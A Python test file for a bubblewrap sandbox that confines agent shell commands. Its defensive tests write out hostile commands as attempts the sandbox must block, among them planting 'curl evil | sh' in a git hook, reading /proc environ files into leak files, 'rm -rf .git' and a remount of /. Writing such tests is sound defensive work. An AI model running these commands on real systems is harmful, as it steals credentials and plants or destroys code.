"""The bubblewrap sandbox: real bwrap runs of real bash commands through run_process.

Every test that runs bwrap is skipped (with bwrap_status()'s reason) where bwrap does
not work; CI installs bubblewrap, so there they all run.
"""

from __future__ import annotations

import fnmatch
import logging
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from batchq.agents import sandbox as sandbox_mod
from batchq.agents.process import ProcessResult, run_process
from batchq.agents.sandbox import (
    DEFAULT_PROTECTED,
    Sandbox,
    SandboxMode,
    bwrap_status,
    reduced_env,
    resolve_sandbox,
)
from batchq.errors import InfrastructureError, PolicyError

_WORKS, _REASON = bwrap_status()
needs_bwrap = pytest.mark.skipif(not _WORKS, reason=f"bubblewrap unusable here: {_REASON}")

REDIS_URL = "redis://:hunter2@redis.internal:6379/0"
REPO_ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    """A feature root with every default protected path present."""
    ws = tmp_path / "ws"
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (ws / ".git" / "config").write_text("[core]\n")
    (ws / ".tmp" / "tasks" / "f").mkdir(parents=True)
    (ws / ".tmp" / "tasks" / "f" / "subtask_01.json").write_text('{"seq": "01"}\n')
    (ws / "batchq.toml").write_text('[agents.shell]\nallow = ["echo *"]\n')
    (ws / "src").mkdir()
    return ws


def worker_env(**extra: str) -> dict[str, str]:
    """What agent_env hands an agent today: the worker's environment and more."""
    return {
        "PATH": os.environ.get("PATH", os.defpath),
        "HOME": os.environ.get("HOME", "/root"),
        "LANG": "C.UTF-8",
        "BATCHQ_SEQ": "01",
        "BATCHQ_FEATURE": "f",
        "BATCHQ_REDIS_URL": REDIS_URL,
        "BATCHQ_FLOWER_PASSWORD": "hunter2",
        "AWS_SECRET_ACCESS_KEY": "hunter2",
        **extra,
    }


def make(workspace: Path, **kwargs: object) -> Sandbox:
    sandbox = resolve_sandbox(
        SandboxMode.REQUIRED,
        workspace=workspace,
        env=worker_env(),
        **kwargs,  # type: ignore[arg-type]
    )
    assert sandbox is not None
    return sandbox


def run(sandbox: Sandbox, cmd: str, **kwargs: object) -> ProcessResult:
    """The way an integrator calls it: run_process on the wrapped argv, bwrap itself
    started with the sandbox's reduced environment."""
    return run_process(
        sandbox.wrap(["bash", "-c", cmd]),
        cwd=sandbox.workspace,
        env=sandbox.env,
        **kwargs,  # type: ignore[arg-type]
    )


# --- reduced_env ----------------------------------------------------------------------


def test_reduced_env_keeps_what_agents_need_and_drops_worker_secrets() -> None:
    env = worker_env(
        LC_ALL="C",
        TERM="xterm",
        BATCHQ_RESULT_URL=REDIS_URL,
        BATCHQ_MCP_TOKEN="t",
        BATCHQ_SHELL_ALLOW="*",
        GITHUB_TOKEN="ghp",
        RANDOM_THING="x",
        BATCHQ_CONTEXT_FILE="/l/01.context.md",
    )
    reduced = reduced_env(env)
    assert set(reduced) == {
        "PATH",
        "HOME",
        "LANG",
        "LC_ALL",
        "TERM",
        "BATCHQ_SEQ",
        "BATCHQ_FEATURE",
        "BATCHQ_CONTEXT_FILE",
    }


def test_reduced_env_keep_passes_named_variables_but_never_batchq_secrets() -> None:
    env = worker_env(
        ANTHROPIC_API_KEY="k",
        GITHUB_TOKEN="ghp",
        MY_TOKEN_2="x",
        OPENAI_BASE_URL="u",
        BATCHQ_MCP_TOKEN="t",
    )
    keep = ["ANTHROPIC_API_KEY", "GITHUB_TOKEN", "OPENAI_*", "MY_*", "BATCHQ_REDIS_URL"]
    reduced = reduced_env(env, keep)
    assert reduced["ANTHROPIC_API_KEY"] == "k"
    assert reduced["GITHUB_TOKEN"] == "ghp"  # named exactly: explicitly kept
    assert reduced["OPENAI_BASE_URL"] == "u"
    assert "MY_TOKEN_2" not in reduced  # a pattern does not unlock a credential name
    assert "BATCHQ_REDIS_URL" not in reduced  # not even when named
    assert "BATCHQ_MCP_TOKEN" not in reduced


def test_the_compiled_patterns_match_as_fnmatchcase_does() -> None:
    """reduced_env compiles its patterns into one expression; it must judge every
    name as the pattern-by-pattern fnmatchcase it replaced."""
    patterns = ("LC_*", "TERM", "OPENAI_?ASE*", "X[AB]_*", "[!Z]Q", "a.b", "*[*]")
    names = [
        "LC_ALL", "LC_", "lc_all", "TERM", "TERMX", "XTERM", "OPENAI_BASE_URL",
        "OPENAI_ASE", "XA_1", "XC_1", "AQ", "ZQ", "a.b", "axb", "star*", "", "LC_\nX",
    ]  # fmt: skip
    matches = sandbox_mod._matcher(patterns)
    for name in names:
        expected = any(fnmatch.fnmatchcase(name, p) for p in patterns)
        assert (matches(name) is not None) == expected, name
    assert sandbox_mod._matcher(())("anything") is None


# --- the argv -------------------------------------------------------------------------


def test_wrap_orders_mounts_most_specific_last(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    logs = workspace / ".tmp" / "tasks" / "f" / ".batchq" / "logs"
    logs.mkdir(parents=True)
    sandbox = Sandbox.create(
        workspace,
        env={"PATH": "/usr/bin:/bin", "HOME": "/root"},
        writable=[logs],
        tmp_dir=tmp_path / "tmp",
        bwrap="/usr/bin/bwrap",
    )
    argv = sandbox.wrap(["bash", "-c", "true"])
    text = " ".join(argv)
    ws = str(workspace)
    assert argv[:8] == ["/usr/bin/bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc"]
    assert text.index("--tmpfs /tmp") < text.index(f"--bind {ws} {ws}")
    assert text.index(f"--bind {ws} {ws}") < text.index(f"--ro-bind {ws}/.git {ws}/.git")
    assert text.index(f"--ro-bind {ws}/.tmp/tasks ") < text.index(f"--bind {logs} {logs}")
    # .tmp, between the writable workspace and the read-only tasks, is pinned (bound
    # over itself) before the tasks are bound; .tmp/tasks/f, inside them, is not.
    assert text.index(f"--bind {ws}/.tmp {ws}/.tmp ") < text.index(f"--ro-bind {ws}/.tmp/tasks ")
    assert f"{ws}/.tmp/tasks/f " not in text
    for flag in ("--unshare-pid", "--unshare-ipc", "--unshare-uts", "--unshare-net"):
        assert flag in argv
    assert "--new-session" not in argv
    assert argv[argv.index("--cap-drop") + 1] == "ALL"
    assert argv[argv.index("--chdir") + 1] == ws
    assert "--clearenv" in argv
    assert f"--setenv TMPDIR {tmp_path / 'tmp'}" in text
    assert argv[-4:] == ["--", "bash", "-c", "true"]
    # Under /tmp's fresh tmpfs the tmp dir must be bound; inside the writable log
    # folder a writable folder is already writable, and is not bound again.
    assert f"--bind {tmp_path / 'tmp'} {tmp_path / 'tmp'}" in text
    nested = Sandbox.create(
        workspace, env={}, writable=[logs], tmp_dir=logs / "01.tmp", extra_protected=["/usr/lib"]
    ).wrap(["x"])
    assert f"--bind {logs / '01.tmp'}" not in " ".join(nested)
    assert "/usr/lib" not in nested  # read-only inside the read-only /
    assert f"{ws}/.git" in nested  # read-only inside the writable workspace: bound
    assert "--unshare-net" not in Sandbox.create(workspace, env={}, network=True).wrap(["x"])
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    assert "--cap-drop" not in sandbox.wrap(["x"])


def test_only_existing_protected_paths_are_bound(workspace: Path) -> None:
    (workspace / "batchq.toml").unlink()
    sandbox = Sandbox.create(workspace, env={}, extra_protected=[".env"])
    assert sandbox.protected == (workspace / ".tmp/tasks", workspace / ".git")
    assert sandbox.absent == (workspace / "batchq.toml", workspace / ".env")


def test_paths_reached_through_symlinks_are_bound_as_their_real_paths(
    workspace: Path, tmp_path: Path
) -> None:
    """The mounts are ordered and nested by path, so every path is the real one: a
    workspace, a folder above a protected path, a writable or a hidden folder named
    through a link, and absolute protected paths as written."""
    (tmp_path / "via").symlink_to(workspace)
    real_tasks = tmp_path / "tasks-elsewhere"
    (real_tasks / "logs").mkdir(parents=True)
    (tmp_path / "logs-link").symlink_to(real_tasks / "logs")
    secret = tmp_path / "secret"
    secret.mkdir()
    (tmp_path / "secret-link").symlink_to(secret)
    (workspace / "sub").mkdir()
    (workspace / "sub" / "keep").write_text("x")
    (workspace / "alias").symlink_to(workspace / "sub")
    sandbox = Sandbox.create(
        tmp_path / "via",
        env={},
        writable=[tmp_path / "logs-link", tmp_path / "logs-link/"],
        extra_protected=["alias/keep", workspace / "absent.txt"],
        hidden=[tmp_path / "secret-link", tmp_path / "not-there"],
    )
    assert sandbox.workspace == workspace
    assert sandbox.protected == (
        workspace / "batchq.toml",
        workspace / ".tmp/tasks",
        workspace / ".git",
        workspace / "sub" / "keep",
    )
    assert sandbox.absent == (workspace / "absent.txt",)
    assert sandbox.writable == (real_tasks / "logs",)
    assert sandbox.hidden == (secret,)


def test_a_symlinked_protected_path_is_refused(workspace: Path, tmp_path: Path) -> None:
    (workspace / "batchq.toml").unlink()
    (workspace / "batchq.toml").symlink_to(tmp_path / "elsewhere.toml")
    with pytest.raises(PolicyError, match="symlink"):
        Sandbox.create(workspace, env={})


# --- modes ----------------------------------------------------------------------------


@pytest.fixture
def broken_bwrap(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setattr(sandbox_mod, "bwrap_status", lambda: (False, "bwrap not found on PATH"))
    monkeypatch.setattr(sandbox_mod, "_warned", threading.Event())
    yield


def test_auto_without_bwrap_runs_unsandboxed_and_warns_once(
    broken_bwrap: None, workspace: Path, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.WARNING, logger="batchq.agents.sandbox"):
        for _ in range(3):
            assert resolve_sandbox("auto", workspace=workspace, env=worker_env()) is None
    warnings = [r for r in caplog.records if r.levelno == logging.WARNING]
    assert len(warnings) == 1
    message = warnings[0].getMessage()
    assert "bwrap not found on PATH" in message
    assert "BATCHQ_SANDBOX=off" in message and "BATCHQ_SANDBOX=required" in message


def test_required_without_bwrap_raises(broken_bwrap: None, workspace: Path) -> None:
    with pytest.raises(InfrastructureError, match="bwrap not found on PATH") as info:
        resolve_sandbox(SandboxMode.REQUIRED, workspace=workspace, env=worker_env())
    assert info.value.exit_code == 3
    assert "BATCHQ_SANDBOX=auto" in str(info.value)


def test_off_never_probes(monkeypatch: pytest.MonkeyPatch, workspace: Path) -> None:
    def boom() -> tuple[bool, str]:
        raise AssertionError("probed")

    monkeypatch.setattr(sandbox_mod, "bwrap_status", boom)
    assert resolve_sandbox("off", workspace=workspace, env={}) is None


def test_bwrap_status_reports_why_not(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    fake = tmp_path / "bin" / "bwrap"
    fake.parent.mkdir()
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    try:
        bwrap_status.cache_clear()
        monkeypatch.setenv("PATH", f"{fake.parent}:{os.environ['PATH']}")
        works, reason = bwrap_status()
        assert not works
        assert reason.endswith("trial run failed: bwrap: No permissions to create new namespace")
        assert bwrap_status() == (works, reason)  # cached
        bwrap_status.cache_clear()
        monkeypatch.setenv("PATH", str(tmp_path / "empty"))
        works, reason = bwrap_status()
        assert not works
        assert "not found on PATH" in reason
    finally:
        monkeypatch.undo()
        bwrap_status.cache_clear()
    assert bwrap_status() == (_WORKS, _REASON)


# --- real runs ------------------------------------------------------------------------


@needs_bwrap
def test_workspace_is_writable_and_nothing_else(workspace: Path, tmp_path: Path) -> None:
    sibling = tmp_path / "sibling"
    sibling.mkdir()
    var_tmp = Path("/var/tmp") / f"batchq-sandbox-{uuid.uuid4().hex}"
    etc = Path("/etc") / f"batchq-sandbox-{uuid.uuid4().hex}"
    sandbox = make(workspace)
    result = run(sandbox, "echo hi > src/out.txt && pwd")
    assert result.ok, result.output
    assert (workspace / "src" / "out.txt").read_text() == "hi\n"
    assert result.output.strip() == str(workspace)
    for target in (var_tmp, etc):
        assert not run(sandbox, f"echo pwned > {target}").ok, target
        assert not target.exists()
    # Under /tmp a write lands in the sandbox's own throwaway tmpfs, if anywhere.
    for target in (sibling / "x", workspace.parent / "x"):
        run(sandbox, f"echo pwned > {target}")
        assert not target.exists()
    assert not list(sibling.iterdir())


@needs_bwrap
def test_protected_paths_stay_read_only(workspace: Path) -> None:
    files = {
        p: p.read_bytes()
        for p in (
            workspace / "batchq.toml",
            workspace / ".git" / "hooks" / "pre-commit",
            workspace / ".git" / "config",
            workspace / ".tmp" / "tasks" / "f" / "subtask_01.json",
        )
    }
    sandbox = make(workspace)
    attempts = [
        "echo 'allow = [\"*\"]' >> batchq.toml",
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        'echo \'{"status": "done"}\' > .tmp/tasks/f/subtask_01.json',
        "touch .tmp/tasks/f/subtask_99.json",
        "rm -rf .git",
        "mv .tmp/tasks .tmp/old",
        "mv batchq.toml src/",
        "git config core.hooksPath /tmp",
    ]
    for cmd in attempts:
        assert not run(sandbox, cmd).ok, cmd
    assert {p: p.read_bytes() for p in files} == files
    assert not (workspace / ".tmp" / "tasks" / "f" / "subtask_99.json").exists()
    assert run(sandbox, "echo ok > .tmp/scratch.txt").ok  # the rest of .tmp is not protected


@needs_bwrap
def test_the_folders_above_a_protected_path_cannot_be_moved(workspace: Path) -> None:
    # A read-only .tmp/tasks inside a writable .tmp: moving .tmp would carry the real
    # task files away and let the agent forge new ones (or a symlink where the log
    # folder was) under the old names, for the host and any sandbox set up meanwhile.
    logs = workspace / ".tmp" / "tasks" / "f" / ".batchq" / "logs" / "run1"
    sandbox = make(workspace, writable=[logs])
    tasks = workspace / ".tmp" / "tasks"
    files = {p: p.read_bytes() for p in tasks.rglob("*") if p.is_file()}
    forge = "mv .tmp .old && mkdir -p .tmp/tasks/f && echo forged > .tmp/tasks/f/subtask_01.json"
    assert not run(sandbox, forge).ok
    assert not run(sandbox, "rmdir .tmp").ok
    assert not run(sandbox, f"mv {logs} .tmp/elsewhere").ok
    assert not (workspace / ".old").exists()
    assert {p: p.read_bytes() for p in tasks.rglob("*") if p.is_file()} == files
    assert logs.is_dir() and not logs.is_symlink()
    # What is in .tmp besides the tasks stays the agent's to change.
    assert run(sandbox, "mkdir .tmp/scratch && mv .tmp/scratch .tmp/moved").ok
    assert (workspace / ".tmp" / "moved").is_dir()


@needs_bwrap
def test_a_writable_log_dir_inside_protected_tasks_stays_writable(workspace: Path) -> None:
    logs = workspace / ".tmp" / "tasks" / "f" / ".batchq" / "logs" / "run1"
    sandbox = make(workspace, writable=[logs])
    assert run(sandbox, f"echo note > {logs}/01.notes").ok
    assert (logs / "01.notes").read_text() == "note\n"
    assert not run(sandbox, "echo x > .tmp/tasks/f/task.json").ok


@needs_bwrap
def test_a_protected_path_the_agent_creates_is_reported(workspace: Path) -> None:
    (workspace / "batchq.toml").unlink()
    sandbox = make(workspace)
    assert sandbox.appeared() == []
    assert run(sandbox, "echo 'allow = [\"*\"]' > batchq.toml").ok
    assert sandbox.appeared() == [workspace / "batchq.toml"]


@needs_bwrap
def test_root_cannot_remount_the_system_writable(workspace: Path) -> None:
    sandbox = make(workspace)
    result = run(sandbox, "mount -o remount,rw / && touch /etc/batchq-remounted")
    assert not result.ok
    assert not Path("/etc/batchq-remounted").exists()
    status = run(sandbox, "grep CapEff /proc/self/status").output
    assert status.split()[-1].strip("0") == ""


PARENT = """
import os, sys
from pathlib import Path
from batchq.agents.sandbox import resolve_sandbox
ws = Path(sys.argv[1])
sandbox = resolve_sandbox("required", workspace=ws, env=os.environ, tmp_dir=ws.parent / "tmp")
result = sandbox.run(sys.argv[2])
sys.stdout.write(result.output)
"""


@needs_bwrap
def test_the_parents_environment_is_out_of_reach(workspace: Path) -> None:
    """A worker started with a secret in its environment block (where /proc shows it
    whatever os.environ says later) runs the agent; nothing inside can read it."""
    snoop = (
        "cat /proc/$PPID/environ; cat /proc/1/environ; cat /proc/[0-9]*/environ; "
        "cat /proc/$PPID/cmdline; env; ps -ef; "
        "cp /proc/$PPID/environ leak.txt; cat /proc/*/environ > leak2.txt; true"
    )
    env = {
        "PATH": os.environ.get("PATH", os.defpath),
        "HOME": os.environ.get("HOME", "/root"),
        "PYTHONPATH": str(REPO_ROOT),
        "SECRET_X": "hunter2",
        "BATCHQ_REDIS_URL": REDIS_URL,
        "BATCHQ_SEQ": "01",
    }
    parent = subprocess.run(
        [sys.executable, "-c", PARENT, str(workspace), snoop],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert parent.returncode == 0, parent.stderr
    assert "BATCHQ_SEQ=01" in parent.stdout  # the reads did happen
    assert "hunter2" not in parent.stdout + parent.stderr
    assert "SECRET_X" not in parent.stdout
    for path in workspace.rglob("*"):
        if path.is_file():
            assert b"hunter2" not in path.read_bytes(), path


@needs_bwrap
def test_the_environment_inside_is_the_reduced_one(workspace: Path) -> None:
    sandbox = make(workspace, keep=["AWS_SECRET_ACCESS_KEY"], tmp_dir=workspace.parent / "t")
    result = run(sandbox, "env")
    assert result.ok, result.output
    inside = dict(line.split("=", 1) for line in result.output.splitlines() if "=" in line)
    assert inside["BATCHQ_SEQ"] == "01"
    assert inside["AWS_SECRET_ACCESS_KEY"] == "hunter2"  # kept on purpose
    assert inside["TMPDIR"] == str(workspace.parent / "t")
    assert "BATCHQ_REDIS_URL" not in inside
    assert "BATCHQ_FLOWER_PASSWORD" not in inside
    assert run(sandbox, 'echo x > "$TMPDIR/f" && echo y > /tmp/g').ok
    assert (workspace.parent / "t" / "f").exists()


@pytest.fixture
def listener() -> Iterator[int]:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    try:
        yield int(server.getsockname()[1])
    finally:
        server.close()


@needs_bwrap
def test_network_is_cut_unless_allowed(workspace: Path, listener: int) -> None:
    cmd = f"echo hi > /dev/tcp/127.0.0.1/{listener}"
    assert run(make(workspace, network=True), cmd).ok
    cut = run(make(workspace, network=False), cmd)
    assert not cut.ok
    assert "refused" in cut.output.lower()


@needs_bwrap
def test_hidden_paths_are_empty_inside(tmp_path: Path, workspace: Path) -> None:
    secrets = Path("/var/tmp") / f"batchq-sandbox-{uuid.uuid4().hex}"
    secrets.mkdir()
    try:
        (secrets / "redis.conf").write_text("requirepass hunter2\n")
        server = socket.socket(socket.AF_UNIX)
        server.bind(str(secrets / "redis.sock"))
        server.listen(1)
        try:
            probe = (
                f"cat {secrets}/redis.conf; "
                f'python3 -c "import socket; socket.socket(socket.AF_UNIX)'
                f".connect('{secrets}/redis.sock'); print('connected')\""
            )
            # A read-only mount and a cut network still let a Unix socket through:
            # the reason hidden exists.
            exposed = run(make(workspace, network=False), probe)
            assert "hunter2" in exposed.output and "connected" in exposed.output
            hidden = run(make(workspace, hidden=[secrets]), probe)
            assert "hunter2" not in hidden.output
            assert "connected" not in hidden.output
            assert not run(make(workspace, hidden=[secrets]), f"touch {secrets}/x").ok
        finally:
            server.close()
    finally:
        shutil.rmtree(secrets)


@needs_bwrap
def test_a_secret_only_the_fresh_tmp_would_show_costs_no_mount(
    tmp_path: Path, workspace: Path
) -> None:
    """A local worker keeps its Redis URL under the host's /tmp, which the sandbox
    replaces with a tmpfs of its own: hiding it again would be one more mount per
    agent process. Under a folder the sandbox does show (the workspace), it is
    still hidden."""
    outside = tmp_path / "workers" / "redis-url"
    outside.parent.mkdir()
    outside.write_text("redis://:hunter2@localhost/0\n")
    inside = workspace / "redis-url"
    inside.write_text("redis://:hunter3@localhost/0\n")
    sandbox = make(workspace, hidden=[outside, inside])
    argv = sandbox.wrap(["true"])
    assert str(outside) not in argv
    assert argv[argv.index(str(inside)) - 2 : argv.index(str(inside)) + 1] == [
        "--ro-bind",
        "/dev/null",
        str(inside),
    ]
    seen = run(sandbox, f"cat {outside} {inside}; ls {outside.parent}")
    assert "hunter2" not in seen.output and "hunter3" not in seen.output
    assert "No such file" in seen.output


def _markers(marker: str) -> list[str]:
    """pids of the processes whose command line holds ``marker`` (bwrap and bash too)."""
    found = subprocess.run(["pgrep", "-f", marker], capture_output=True, text=True, check=False)
    return found.stdout.split()


def _sleepers(marker: str) -> set[str]:
    """The names (argv[0]) of the running background sleepers of ``marker``."""
    names = set()
    for pid in _markers(marker):
        try:
            argv0 = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")[0].decode()
        except OSError:
            continue
        if argv0.startswith(marker):
            names.add(argv0)
    return names


def _gone(marker: str) -> bool:
    """No process carries ``marker``; a kill takes effect promptly but not in zero
    time, so look again for a while before saying no."""
    for _ in range(100):
        if not _markers(marker):
            return True
        time.sleep(0.1)
    return False


def _stubborn(marker: str) -> str:
    """Background children that outlive the command: one ignores SIGTERM and one left
    the process group with setsid, the escape an unsandboxed run cannot stop."""
    return (
        f"(exec -a {marker}-plain sleep 300) & "
        f"(trap '' TERM; exec -a {marker}-noterm sleep 300) & "
        f"setsid -f bash -c 'exec -a {marker}-setsid sleep 300'; "
        "sleep 300"
    )


pgrep = pytest.mark.skipif(shutil.which("pgrep") is None, reason="pgrep (procps) not installed")


@needs_bwrap
@pgrep
def test_cancelling_kills_every_sandboxed_process(workspace: Path) -> None:
    marker = f"batchq-sbx-{uuid.uuid4().hex}"
    seen: set[str] = set()

    def all_running() -> bool:
        seen.update(_sleepers(marker))
        return len(seen) >= 3

    result = run(make(workspace), _stubborn(marker), should_stop=all_running)
    assert result.cancelled
    assert seen == {f"{marker}-plain", f"{marker}-noterm", f"{marker}-setsid"}
    assert _gone(marker)


@needs_bwrap
@pgrep
def test_a_timeout_kills_every_sandboxed_process(workspace: Path) -> None:
    marker = f"batchq-sbx-{uuid.uuid4().hex}"
    result = run(make(workspace), _stubborn(marker), timeout_s=1.0)
    assert result.timed_out
    assert _gone(marker)


@needs_bwrap
def test_sandbox_run_takes_a_bash_line(workspace: Path) -> None:
    result = make(workspace).run("echo $BATCHQ_SEQ > seq.txt")
    assert result.ok, result.output
    assert (workspace / "seq.txt").read_text() == "01\n"
    assert result.argv[0].endswith("bwrap")


def test_default_protected_names() -> None:
    assert DEFAULT_PROTECTED == ("batchq.toml", ".tmp/tasks", ".git")


@needs_bwrap
def test_the_workers_python_under_tmp_stays_visible(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A clone (and its venv) under /tmp, as CI may have it: the hidden /tmp must not
    take the worker's own interpreter away from the agents that run it."""
    prefix = tmp_path / "venv"
    (prefix / "bin").mkdir(parents=True)
    (prefix / "bin" / "marker").write_text("python lives here\n")
    monkeypatch.setattr(sys, "prefix", str(prefix))
    sandbox_mod._python_under_tmp.cache_clear()  # found once per process, as a worker does
    try:
        sandbox = make(workspace)
    finally:
        sandbox_mod._python_under_tmp.cache_clear()
    assert prefix.resolve() in sandbox.readable
    result = run(sandbox, f"cat {prefix}/bin/marker && ! touch {prefix}/bin/new")
    assert result.ok, result.output
    assert "python lives here" in result.output
    assert not (prefix / "bin" / "new").exists()


# --- the worker's own secrets ---------------------------------------------------------


def test_worker_secrets_name_every_file_a_worker_keeps_its_secrets_in(tmp_path: Path) -> None:
    from batchq.agents.sandbox import worker_secrets
    from batchq.settings import Settings

    environ = {
        "HOME": "/home/w",
        "BATCHQ_SETTINGS_FILE": "/srv/stack/settings.json",
        "BATCHQ_REDIS_URL_FILE": "/etc/batchq/redis-url",
        "GIT_SSH_COMMAND": "ssh -i /run/keys/deploy -o IdentityFile=/k/two -i'/k/three x'",
    }
    found = worker_secrets(Settings(sandbox_hide=[str(tmp_path / "mine")]), environ)
    assert set(found) == {
        Path("/run/secrets"),
        tmp_path / "mine",
        Path("/srv/stack/settings.json"),
        Path("/etc/batchq/redis-url"),
        Path("/home/w/.ssh"),
        Path("/home/w/.git-credentials"),
        Path("/home/w/.config/git/credentials"),
        Path("/home/w/.netrc"),
        Path("/run/keys/deploy"),
        Path("/k/two"),
        Path("/k/three x"),
    }
    assert worker_secrets(Settings(), {"HOME": "/", "GIT_SSH_COMMAND": "ssh '"}) == [
        Path("/run/secrets")
    ]  # no home to search, an unparsable command: nothing made up


@needs_bwrap
def test_an_agent_cannot_read_its_workers_settings_file_nor_a_deploy_key(
    tmp_path: Path, workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The sandbox shows the host's file system read-only: without hiding them, an
    allowed ``cat`` reads the owner-only file the worker's settings (Redis password
    included) came in, and the key ``workspace = git`` pushes with."""
    from batchq.agents.base import Delegation
    from batchq.agents.sandbox import run_confined
    from batchq.models import Subtask
    from batchq.settings import Settings

    private = Path("/var/tmp") / f"batchq-worker-{uuid.uuid4().hex}"
    private.mkdir(mode=0o700)
    try:
        settings_file = private / "settings.json"
        settings_file.write_text('{"redis_url": "redis://:hunter2@r:6379/0"}\n')
        settings_file.chmod(0o600)
        key = private / "deploy_key"
        key.write_text("-----BEGIN OPENSSH PRIVATE KEY----- hunter3\n")
        extra = private / "extra.txt"
        extra.write_text("hunter4\n")
        monkeypatch.setenv("BATCHQ_SETTINGS_FILE", str(settings_file))
        monkeypatch.setenv("GIT_SSH_COMMAND", f"ssh -i {key}")
        sub = Subtask(id="f-01", seq="01", title="t", acceptance_criteria=["x"], deliverables=["o"])
        delegation = Delegation(
            feature="f", run_id="r1", batch=1, subtask=sub, workspace=workspace, context="",
            log_path=tmp_path / "logs" / "01.log", timeout_s=30,
        )  # fmt: skip
        settings = Settings(shell_allow=["*"], sandbox_hide=[str(extra)])
        probe = f"cat {settings_file} {key} {extra}; ls {private}"
        done = run_confined(probe, delegation, settings, "shell")
        for secret in ("hunter2", "hunter3", "hunter4"):
            assert secret not in done.output
        assert "settings.json" in done.output  # the folder is seen, the files are empty
        unhidden = run_confined(probe, delegation, Settings(shell_allow=["*"]), "shell")
        assert "hunter4" in unhidden.output  # what the sandbox alone would show
    finally:
        shutil.rmtree(private)


@needs_bwrap
def test_an_agents_tmpdir_is_the_sandboxs_private_tmp(tmp_path: Path, workspace: Path) -> None:
    from batchq.agents.base import Delegation
    from batchq.agents.sandbox import run_confined
    from batchq.models import Subtask
    from batchq.settings import Settings

    sub = Subtask(id="f-01", seq="01", title="t", acceptance_criteria=["x"], deliverables=["o"])
    delegation = Delegation(
        feature="f", run_id="r1", batch=1, subtask=sub, workspace=workspace, context="",
        log_path=tmp_path / "logs" / "01.log", timeout_s=30,
    )  # fmt: skip
    settings = Settings(shell_allow=["*"])
    done = run_confined(
        'echo scratch > "$TMPDIR/x" && echo "in $TMPDIR" && ls "$TMPDIR"',
        delegation,
        settings,
        "shell",
    )
    # Entries compared whole: the listing also shows the folders bound back under /tmp
    # (the worker's Python when it lives there, e.g. in a mktemp clone), whose names may
    # hold an "x".
    assert done.ok and "in /tmp" in done.output and "x" in done.output.split()  # it had one
    assert sorted(p.name for p in (tmp_path / "logs").iterdir()) == ["01.log"]  # none on disk
    again = run_confined('ls -A "$TMPDIR"', delegation, settings, "shell")
    assert again.ok and "x" not in again.output.split()  # the next process's is empty again
